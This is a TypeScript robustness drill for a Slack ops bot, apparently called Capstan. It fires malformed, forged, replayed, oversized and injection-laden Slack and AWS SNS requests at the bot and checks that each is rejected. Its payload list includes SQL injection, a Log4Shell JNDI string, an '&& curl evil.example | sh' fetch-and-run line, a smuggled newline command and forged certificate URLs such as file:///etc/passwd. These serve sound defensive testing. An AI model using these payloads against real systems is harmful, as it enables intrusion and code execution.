/**
 * Drill 6 — bad input. A `capstan web` process (its own process, so a crash shows) is fed `count`
 * requests cycling through malformed, oversized, wrongly signed, replayed, tampered and
 * injection-laden requests and payloads. Each must get the right answer — 401 for a bad or
 * missing signature and for a replay, 413 when too big, 400/404 for what Bolt cannot route, 200
 * with a usage message for a bad command, 200 with a refusal for a forbidden one — and nothing may
 * be enqueued: no worker runs, so every job would still be in the queue. The process must still
 * answer `/health` at the end.
 */
import { createHmac, randomBytes } from 'node:crypto';
import { request } from 'node:http';
import {
  appMentionEventBody,
  blockActionsBody,
  signSlackRequest,
  slashCommandBody,
} from '../../devkit/local/signed-request.js';
import { APPROVE_ACTION } from '../../src/slack/blocks/approval.js';
import {
  attempt,
  check,
  DRILL_SIGNING_SECRET,
  type DrillOptions,
  type DrillResult,
  quantile,
  startDrillWorld,
} from './harness.js';
import { DRILL_CONFIG } from './world.js';

const FORM = 'application/x-www-form-urlencoded';

/** Strings that must never reach a shell, SQL, a template or a log unescaped. */
const INJECTIONS = [
  "'; DROP TABLE users; --",
  '" OR "1"="1',
  '$(reboot)',
  '`id`',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, literally.
  '${jndi:ldap://evil.example/a}',
  '|| true',
  '&& curl evil.example | sh',
  'prod\n/env delete prod',
  'a\u0000b',
  '\u202Eevil',
  '🧨💥',
  'name%00',
  '<@U0CAROL> <!channel>',
  '*bold* _it_ `code`',
  '--size 999 --blueprint ../x',
  'x'.repeat(300),
  'shop.`billing`',
];

/** Command lines where the injection takes the place of a name: each must be refused by the grammar. */
const TEMPLATES: Array<[string, (x: string) => string]> = [
  ['/env', (x) => `create ${JSON.stringify(x)}`],
  ['/env', (x) => `delete ${JSON.stringify(x)} now`],
  ['/env', (x) => `create ok-name --size ${JSON.stringify(x)}`],
  ['/lb', (x) => `disable ${JSON.stringify(x)} extra`],
  ['/rds', (x) => `restore-table orders-db ${JSON.stringify(x)} --at "15m ago"`],
  ['/rds', (x) => `restore-table orders-db shop.billing --at ${JSON.stringify(x)}`],
  ['/rds', (x) => `io-credits orders-db --hours ${JSON.stringify(x)}`],
  ['/ops', (x) => `audit ${JSON.stringify(x)}`],
  ['/env', (x) => `${x.replace(/\s/g, '_')}-verb`],
];

/** How many kinds of bad request the drill cycles through. */
export const KINDS = 20;

/** Slack markup that must never come back from Capstan as markup: pings, group mentions, disguised links. */
const HOSTILE_MARKUP = [
  '<!channel>',
  '<!here>',
  '<!subteam^S0ONCALL|@oncall>',
  '<http://evil.example/approve|Approve here>',
  '<!everyone>',
];
/** What {@link HOSTILE_MARKUP} would look like if Capstan posted it back as markup. */
export const HOSTILE_ECHO = /<!channel>|<!here>|<!everyone>|<!subteam|<http:\/\/evil/;

/** One request of the drill and the answer it must get. */
interface Case {
  kind: string;
  body: string | Buffer;
  headers: Record<string, string>;
  /** Why the answer is wrong, or undefined when it is right. */
  verdict(status: number, body: string): string | undefined;
}

const signed = (body: string, ts?: number) => ({
  'content-type': body.startsWith('{') ? 'application/json' : FORM,
  ...signSlackRequest(DRILL_SIGNING_SECRET, body, ts),
});

const expectStatus =
  (...want: number[]) =>
  (status: number) =>
    want.includes(status) ? undefined : `HTTP ${status}, want ${want.join(' or ')}`;

const usageReply = (status: number, body: string) => {
  if (status !== 200) return `HTTP ${status}, want 200 with a usage message`;
  let text = '';
  try {
    text = String((JSON.parse(body) as { text?: unknown }).text ?? '');
  } catch {
    return `not JSON: ${body.slice(0, 80)}`;
  }
  return /^:warning: /.test(text) && /Usage|at most/.test(text)
    ? undefined
    : `no usage message: ${text.slice(0, 120)}`;
};

const pick = <T>(list: readonly T[], i: number): T => list[i % list.length] as T;

/** The `i`-th request of the drill. */
function makeCase(i: number): Case {
  const now = Math.floor(Date.now() / 1000);
  const injection = pick(INJECTIONS, Math.floor(i / 16));
  const [command, template] = pick(TEMPLATES, Math.floor(i / 16) + i);
  const text = template(injection);
  const slash = (userId = 'U0ALICE') => slashCommandBody({ command, text, userId, channelId: 'C0OPS' });
  switch (i % KINDS) {
    case 0:
    case 1:
    case 2: {
      const body = slash();
      return { kind: 'injection in a command', body, headers: signed(body), verdict: usageReply };
    }
    case 3: {
      const body = slash();
      const headers = { ...signed(body), 'X-Slack-Signature': `v0=${randomBytes(32).toString('hex')}` };
      return { kind: 'bad signature', body, headers, verdict: expectStatus(401) };
    }
    case 4: {
      const body = slashCommandBody({ command: '/env', text: 'list', userId: 'U0ALICE', channelId: 'C0OPS' });
      const sig = createHmac('sha256', 'not-the-secret').update(`v0:${now}:${body}`).digest('hex');
      const headers = {
        'content-type': FORM,
        'X-Slack-Request-Timestamp': String(now),
        'X-Slack-Signature': `v0=${sig}`,
      };
      return { kind: 'signed with another secret', body, headers, verdict: expectStatus(401) };
    }
    case 5: {
      // A genuine request captured and sent again later: correctly signed, with its old timestamp.
      const body = slashCommandBody({
        command: '/env',
        text: 'create replayed',
        userId: 'U0ALICE',
        channelId: 'C0OPS',
      });
      const ts = now - 301 - (i % 3600);
      return {
        kind: 'replayed (old timestamp)',
        body,
        headers: signed(body, ts),
        verdict: expectStatus(401),
      };
    }
    case 6: {
      // Signed, then changed on the way.
      const original = slashCommandBody({
        command: '/env',
        text: 'list',
        userId: 'U0ALICE',
        channelId: 'C0OPS',
      });
      const body = original.replace('text=list', 'text=delete+prod');
      return { kind: 'tampered after signing', body, headers: signed(original), verdict: expectStatus(401) };
    }
    case 7: {
      const body = slash();
      const headers: Record<string, string> =
        i % 2 === 0
          ? { 'content-type': FORM }
          : { 'content-type': FORM, 'X-Slack-Request-Timestamp': 'yesterday', 'X-Slack-Signature': 'v0=zz' };
      return { kind: 'missing or garbled signature headers', body, headers, verdict: expectStatus(401) };
    }
    case 8: {
      // Over Bolt's 1 MiB body limit (every 64th time: 2 MiB; otherwise just over).
      const size = i % 64 === 8 ? 2 * 1024 * 1024 : 1024 * 1024 + 10;
      const body = slashCommandBody({
        command: '/env',
        text: 'x'.repeat(size),
        userId: 'U0ALICE',
        channelId: 'C0OPS',
      });
      return { kind: 'oversized body', body, headers: signed(body), verdict: expectStatus(413) };
    }
    case 9: {
      const long = slashCommandBody({
        command: '/env',
        text: `create ${'a'.repeat(4_001 + (i % 50_000))}`,
        userId: 'U0ALICE',
        channelId: 'C0OPS',
      });
      return { kind: 'command text too long', body: long, headers: signed(long), verdict: usageReply };
    }
    case 10: {
      const variants = ['{"type":', '{"type":"event_callback","event":', '[1,2', '{"a":1}}'];
      const body = pick(variants, i);
      return { kind: 'malformed JSON', body, headers: signed(body), verdict: expectStatus(400, 404) };
    }
    case 11: {
      const variants = ['payload=%7Bnot-json', 'payload=', 'payload=%5B%5D', `payload=${'%7B'.repeat(500)}`];
      const body = pick(variants, i);
      return {
        kind: 'malformed interactive payload',
        body,
        headers: signed(body),
        verdict: expectStatus(400, 404),
      };
    }
    case 12: {
      // Well-signed bytes that are no Slack request at all.
      const variants = ['%%%&&==', '', randomBytes(64).toString('base64'), 'command=&text=&token='];
      const body = pick(variants, i);
      return { kind: 'garbage form body', body, headers: signed(body), verdict: expectStatus(400, 404) };
    }
    case 13: {
      const body = slashCommandBody({ command: '/env', text: 'list', userId: 'U0ALICE', channelId: 'C0OPS' });
      return {
        kind: 'wrong content type',
        body,
        headers: {
          ...signed(body),
          'content-type': pick(['text/plain', 'application/xml', 'multipart/form-data'], i),
        },
        verdict: expectStatus(400, 415),
      };
    }
    case 14: {
      // Someone with no Capstan role asking for something destructive: refused, not enqueued.
      const body = slashCommandBody({
        command: '/env',
        text: pick(['delete stage', 'create intruder --size 4'], i),
        userId: 'U0EVE',
        channelId: 'C0OPS',
      });
      return {
        kind: 'forbidden command',
        body,
        headers: signed(body),
        verdict: (status, text) =>
          status === 200 && /may only read|needs one of the roles|not allowed/.test(text)
            ? undefined
            : `HTTP ${status}: ${text.slice(0, 120)}`,
      };
    }
    case 15: {
      // Correctly signed, but dated in the future (Slack's window is five minutes either way).
      const body = slashCommandBody({ command: '/ops', text: 'ping', userId: 'U0ALICE', channelId: 'C0OPS' });
      const ahead = pick([330, 600, 3_600, 86_400, 365 * 86_400], i);
      return {
        kind: 'timestamp in the future',
        body,
        headers: signed(body, now + ahead),
        verdict: expectStatus(401),
      };
    }
    case 16: {
      // Signed, but missing the fields Slack always sends (user, team, trigger…).
      const variants = [
        'command=%2Fenv&text=list',
        'command=%2Fenv&text=create+x&user_id=U0ALICE',
        'command=%2Fops&text=ping&channel_id=C0OPS',
      ];
      const body = pick(variants, i);
      return {
        kind: 'command missing fields',
        body,
        headers: signed(body),
        verdict: expectStatus(200, 400, 404),
      };
    }
    case 17: {
      // No listener for it: answered 404 at once (not after Bolt's unhandled-request timeout).
      const body =
        i % 2 === 0
          ? slashCommandBody({ command: '/nope', text: 'x', userId: 'U0ALICE', channelId: 'C0OPS' })
          : `payload=${encodeURIComponent(JSON.stringify({ type: 'block_actions', user: { id: 'U0EVE' }, team: { id: 'T0CAPSTAN' }, actions: [{ action_id: `nope-${i}`, value: injection }] }))}`;
      return { kind: 'unknown command or action', body, headers: signed(body), verdict: expectStatus(404) };
    }
    case 18: {
      // An @mention whose words carry Slack markup: acked; the reply (a usage message or a refusal,
      // posted ephemerally) is checked afterwards for markup coming back.
      const markup = pick(HOSTILE_MARKUP, i);
      const words = pick(
        [`env create "${markup}"`, `lb disable stage --reason "${markup}"`, `ops cancel ${markup}`],
        i,
      );
      const body = appMentionEventBody({
        userId: 'U0EVE',
        channelId: 'C0OPS',
        text: `<@U0CAPSTAN> ${words}`,
        ts: `${now}.${String(i).padStart(6, '0')}`,
        eventId: `Ev0BAD${i}`,
      });
      return { kind: 'mention with Slack markup', body, headers: signed(body), verdict: expectStatus(200) };
    }
    case 19: {
      // An Approve click carrying an approval id no request message has (forged, or copied from elsewhere).
      const value = pick([`j${randomBytes(6).toString('hex')}`, injection, '<!channel>'], i);
      const body = blockActionsBody({
        userId: 'U0CAROL',
        actionId: APPROVE_ACTION,
        value,
        channelId: 'C0OPS',
        messageTs: `${now}.000100`,
      });
      return {
        kind: 'approval click on no request',
        body,
        headers: signed(body),
        verdict: expectStatus(200),
      };
    }
    default: {
      const challenge = randomBytes(12).toString('hex');
      const body = JSON.stringify({ token: 'x', challenge, type: 'url_verification' });
      return {
        kind: 'url_verification',
        body,
        headers: signed(body),
        verdict: (status, text) =>
          status === 200 && text.includes(challenge) ? undefined : `HTTP ${status}: ${text.slice(0, 80)}`,
      };
    }
  }
}

/** The one topic the drill's configuration accepts SNS messages from. */
const SNS_TOPIC = 'arn:aws:sns:us-east-1:123456789012:drill-alarms';

/** The drill's configuration: the drills' own, accepting SNS messages from {@link SNS_TOPIC}. */
const BAD_INPUT_CONFIG = `${DRILL_CONFIG}
alerts:
  sns:
    topics: [${SNS_TOPIC}]
  default: { channel: C0OPS }
`;

/** A certificate URL of the form SNS uses (the sandbox serves its own; any other is not SNS's key). */
const snsCertUrl = (i: number) =>
  `https://sns.us-east-1.amazonaws.com/SimpleNotificationService-${createHmac('md5', 'drill').update(String(i)).digest('hex')}.pem`;

/** A well-formed SNS envelope whose signature is garbage. */
function envelope(i: number, over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    Type: 'Notification',
    MessageId: `drill-${i}-${randomBytes(4).toString('hex')}`,
    TopicArn: SNS_TOPIC,
    Subject: 'ALARM: "drill" in US East (N. Virginia)',
    Message: JSON.stringify({ AlarmName: 'drill', NewStateValue: 'ALARM', injection: pick(INJECTIONS, i) }),
    Timestamp: new Date().toISOString(),
    SignatureVersion: pick(['1', '2'], i),
    Signature: randomBytes(256).toString('base64'),
    SigningCertURL: snsCertUrl(i),
    UnsubscribeURL: 'https://sns.us-east-1.amazonaws.com/?Action=Unsubscribe',
    ...over,
  };
}

/** How many kinds of bad SNS post the drill cycles through. */
export const SNS_KINDS = 12;

/** The `i`-th garbage post to `POST /aws/sns`: none may be queued, none may open an alert. */
function snsCase(i: number): Case {
  const json = (
    kind: string,
    body: Record<string, unknown>,
    status: number,
    over: Record<string, string> = {},
  ) => {
    const text = JSON.stringify(body);
    return {
      kind: `sns: ${kind}`,
      body: text,
      headers: {
        'content-type': 'text/plain; charset=UTF-8',
        'x-amz-sns-message-type': String(body.Type ?? 'Notification'),
        'x-amz-sns-topic-arn': String(body.TopicArn ?? SNS_TOPIC),
        ...over,
      },
      verdict: expectStatus(status),
    };
  };
  switch (i % SNS_KINDS) {
    case 0: {
      const body = pick(['not json', '{"Type":', '[]', 'null', '<xml/>', pick(INJECTIONS, i)], i);
      return {
        kind: 'sns: not JSON',
        body,
        headers: { 'content-type': 'text/plain', 'x-amz-sns-message-type': 'Notification' },
        verdict: expectStatus(400),
      };
    }
    case 1: {
      // A Slack request (or anything) without SNS's header.
      const body = slashCommandBody({ command: '/ops', text: 'ping', userId: 'U0ALICE', channelId: 'C0OPS' });
      return { kind: 'sns: no SNS header', body, headers: signed(body), verdict: expectStatus(400) };
    }
    case 2: {
      // Each kind comes round every SNS_KINDS posts: vary its variant by round, not by i.
      const drop = pick(
        ['Signature', 'SigningCertURL', 'TopicArn', 'MessageId', 'Message', 'Timestamp'],
        Math.floor(i / SNS_KINDS),
      );
      const { [drop]: _gone, ...rest } = envelope(i);
      return json(`missing ${drop}`, rest, 400);
    }
    case 3:
      return json(
        'wrong types',
        envelope(
          i,
          pick(
            [{ Message: { a: 1 } }, { SignatureVersion: 3 }, { Type: 'Nope' }, { Timestamp: 42 }],
            Math.floor(i / SNS_KINDS),
          ),
        ),
        400,
      );
    case 4:
      return json('type header disagrees', envelope(i), 400, {
        'x-amz-sns-message-type': 'SubscriptionConfirmation',
      });
    case 5:
      return json(
        'topic not configured',
        envelope(i, { TopicArn: pick(['arn:aws:sns:us-east-1:999999999999:evil', `${SNS_TOPIC}-2`], i) }),
        403,
      );
    case 6:
      return json(
        'stale (replayed)',
        envelope(i, {
          Timestamp: new Date(
            Date.now() - pick([3_700, 86_400, 30 * 86_400], Math.floor(i / SNS_KINDS)) * 1000,
          ).toISOString(),
        }),
        400,
      );
    case 7:
      return json(
        'dated in the future',
        envelope(i, { Timestamp: new Date(Date.now() + 3_600_000).toISOString() }),
        400,
      );
    case 8:
      return json(
        'certificate not on an SNS host',
        envelope(i, {
          SigningCertURL: pick(
            [
              'http://sns.us-east-1.amazonaws.com/SimpleNotificationService-0123456789abcdef0123456789abcdef.pem',
              'https://evil.example/SimpleNotificationService-0123456789abcdef0123456789abcdef.pem',
              'https://sns.us-east-1.amazonaws.com.evil.example/SimpleNotificationService-0123456789abcdef0123456789abcdef.pem',
              'https://127.0.0.1/cert.pem',
              'file:///etc/passwd',
            ],
            i,
          ),
        }),
        403,
      );
    case 9:
      return json('bad signature', envelope(i), 403);
    case 10:
      return json(
        'subscription with a foreign SubscribeURL',
        envelope(i, {
          Type: 'SubscriptionConfirmation',
          Token: randomBytes(16).toString('hex'),
          SubscribeURL: 'https://evil.example/?Action=ConfirmSubscription',
        }),
        403,
      );
    default: {
      const body = JSON.stringify(envelope(i, { Message: 'x'.repeat(1_100_000) }));
      return {
        kind: 'sns: too large',
        body,
        headers: { 'content-type': 'text/plain', 'x-amz-sns-message-type': 'Notification' },
        verdict: expectStatus(413),
      };
    }
  }
}

/**
 * POSTs on a connection of its own (no keep-alive): a reset then means the server dropped this
 * request, not the usual race of a client reusing a socket the server is closing.
 */
function post(
  url: string,
  body: string | Buffer,
  headers: Record<string, string>,
): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = request(url, { method: 'POST', headers, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text: Buffer.concat(chunks).toString() }));
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** Runs the drill: `count` requests. */
export async function badInputDrill(options: DrillOptions): Promise<DrillResult> {
  const log = options.log ?? (() => undefined);
  const world = await startDrillWorld({
    configYaml: BAD_INPUT_CONFIG,
    env: { DRILL_DB_PASSWORD: 'unused' },
    ...(options.redisUrl ? { redisUrl: options.redisUrl } : {}),
  });
  const failures: string[] = [];
  const byKind = new Map<string, { sent: number; wrong: number; ms: number[] }>();
  const latencies: number[] = [];
  let passed = 0;
  let runs = 0;
  try {
    // The in-process Capstan is only the drill's handle on Redis: requests go to a `capstan web` child.
    const web = await world.spawnWeb();
    const auditBefore = await world.redis.xlen(`${world.prefix}:audit`);
    let next = 0;
    const concurrency = 32;
    const one = async (i: number, c = makeCase(i), url = web.eventsUrl) => {
      const started = performance.now();
      let status = 0;
      let text = '';
      try {
        ({ status, text } = await post(url, c.body, c.headers));
      } catch (error) {
        text = `no answer: ${(error as { code?: string }).code ?? (error as Error).message}`;
      }
      latencies.push(performance.now() - started);
      const why = status === 0 ? text : c.verdict(status, text);
      const stats = byKind.get(c.kind) ?? { sent: 0, wrong: 0, ms: [] };
      stats.sent += 1;
      stats.ms.push(performance.now() - started);
      runs += 1;
      if (why) {
        stats.wrong += 1;
        if (failures.length < 200) failures.push(`#${i} ${c.kind}: ${why}`);
      } else passed += 1;
      byKind.set(c.kind, stats);
    };
    const lanes = Array.from({ length: concurrency }, async () => {
      for (let i = next++; i < options.count; i = next++) {
        await one(i);
        if (i > 0 && i % 1000 === 0) log(`${i} requests sent`);
      }
    });
    await Promise.all(lanes);
    // As many garbage posts to the SNS endpoint.
    const snsUrl = web.eventsUrl.replace('/slack/events', '/aws/sns');
    let nextSns = 0;
    const snsLanes = Array.from({ length: concurrency }, async () => {
      for (let i = nextSns++; i < options.count; i = nextSns++) {
        await one(i, snsCase(i), snsUrl);
        if (i > 0 && i % 1000 === 0) log(`${i} SNS posts sent`);
      }
    });
    await Promise.all(snsLanes);

    await attempt(failures, 'afterwards', async () => {
      check(web.worker.proc.exitCode === null && web.worker.proc.signalCode === null, 'the web process died');
      const health = await fetch(`${web.eventsUrl.replace('/slack/events', '')}/health`);
      check(health.status === 200, `/health answered ${health.status}`);
      const counts = await world.queue.getJobCounts(
        'wait',
        'active',
        'delayed',
        'completed',
        'failed',
        'prioritized',
      );
      const total = Object.values(counts).reduce((a, b) => a + b, 0);
      check(total === 0, `${total} job(s) enqueued: ${JSON.stringify(counts)}`);
      const locks = await world.keys(`${world.prefix}:lock:*`);
      check(locks.length === 0, `${locks.length} lock(s) taken`);
      const alerts = await world.keys(`${world.prefix}:alert*`);
      check(alerts.length === 0, `${alerts.length} alert key(s) written by garbage SNS posts`);
    });
    await attempt(failures, 'afterwards', async () => {
      // Replies to mentions go out through the Web API: none may carry the markup back.
      const mentions = byKind.get('mention with Slack markup')?.sent ?? 0;
      for (let waited = 0; world.fake.ephemerals.length < mentions && waited < 10_000; waited += 100) {
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      const echoed = world.fake.ephemerals.filter((e) => HOSTILE_ECHO.test(e.text ?? ''));
      check(
        echoed.length === 0,
        `${echoed.length} ephemeral(s) carry Slack markup back, e.g. ${echoed[0]?.text?.slice(0, 160)}`,
      );
      check(
        world.fake.ephemerals.length >= mentions,
        `${world.fake.ephemerals.length} replies to ${mentions} mentions`,
      );
    });
    const audited = (await world.redis.xlen(`${world.prefix}:audit`)) - auditBefore;
    // Every command Capstan read (bad, too long, refused) is a decision the audit stream must hold.
    const decided = [
      'injection in a command',
      'command text too long',
      'forbidden command',
      'mention with Slack markup',
    ]
      .map((k) => byKind.get(k)?.sent ?? 0)
      .reduce((a, b) => a + b, 0);
    await attempt(failures, 'afterwards', async () => {
      check(audited >= decided, `${audited} audit entries for ${decided} commands decided`);
    });
    const kinds = [...byKind.entries()].map(([k, s]) => `${k} ${s.sent - s.wrong}/${s.sent}`).join('; ');
    log(kinds);
    return {
      drill: 'bad-input',
      runs,
      passed: passed - failures.filter((f) => f.startsWith('afterwards')).length,
      checked: `${options.count} malformed/oversized/badly signed/replayed/future-dated/tampered/injection requests, markup in mentions, forged approval clicks, and ${options.count} garbage SNS posts (unsigned, foreign topic, stale, bad certificate host, bad signature, too large): right status and reply each, no markup echoed, no job, no alert, no lock, process alive`,
      figures: {
        'answers right, by kind': kinds,
        'latency p50/p99/max': `${quantile(latencies, 0.5).toFixed(1)} / ${quantile(latencies, 0.99).toFixed(1)} / ${Math.max(...latencies).toFixed(1)} ms`,
        'slowest kinds (p99)': [...byKind.entries()]
          .map(([k, st]) => [k, quantile(st.ms, 0.99)] as const)
          .sort((a, b) => b[1] - a[1])
          .slice(0, 3)
          .map(([k, ms]) => `${k} ${ms.toFixed(1)} ms`)
          .join('; '),
        'audit entries written': String(audited),
      },
      failures,
    };
  } finally {
    await world.stop();
  }
}
